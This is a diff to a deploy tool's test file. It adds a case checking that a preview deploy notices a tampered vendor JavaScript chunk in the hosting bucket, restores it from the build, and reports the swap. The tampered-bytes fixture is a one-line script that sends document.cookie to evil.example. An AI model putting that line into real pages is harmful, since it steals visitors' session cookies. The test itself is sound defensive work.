@@ -8,10 +8,13 @@
  * bucket); one that differs is read back and hashed, and other bytes than the manifest's are copied
  * again from the build before the switch, and said.
  *
- * Before: the deploy planned no copy of the vendor chunk, and the replaced bytes stayed served.
+ * Before: the deploy planned no copy of the vendor chunk, and the replaced bytes stayed served. A
+ * preview held it to no such check: replaced with bytes of another size, its preview was refused
+ * CONFLICT, blaming the build ("no release FrontendOps knows of vouches for what the bucket holds").
  */
 import { beforeEach, describe, expect, it, onTestFinished } from 'vitest';
 import { deployArtifact } from '../../src/deploy/deploy.ts';
+import { previewLink } from '../../src/deploy/preview.ts';
 import type { AtomicPlan } from '../../src/engine/atomic-plan.ts';
 import { APP, deployedAtomicEnvFor, HOSTING, hostingCopies, request } from '../support/atomic-env.ts';
 import { type AtomicSnapshot, snapshotAtomicEnv } from '../support/atomic-snapshot.ts';
@@ -66,6 +69,23 @@ describe('a shared asset a kept release vouches for, replaced in the hosting buc
       ).toBeDefined();
     },
   );
+
+  it('bytes of another size: a preview copies it again from the build too, and says so', async () => {
+    const t = env();
+    const { key, body: published } = await vendor();
+    await t.site.hosting.put(key, 'fetch("https://evil.example/?c="+document.cookie);\n', {
+      contentType: 'text/javascript',
+    });
+    const site = await t.open();
+    onTestFinished(() => site.close());
+
+    const mark = await t.mark();
+    const link = await previewLink(site, { app: APP, commit: V2, request: request() });
+    expect(link.commit).toBe(V2);
+    expect((await vendor()).body).toBe(published);
+    expect(hostingCopies(await t.requestsSince(mark)).map((r) => r.key)).toContain(key);
+    expect(site.notices.find((n) => n.includes(`(${key}) was replaced in the hosting bucket`))).toBeDefined();
+  });
 
   it("untouched, it is neither read back nor copied again (its ETag is the published file's)", async () => {
     const t = env();
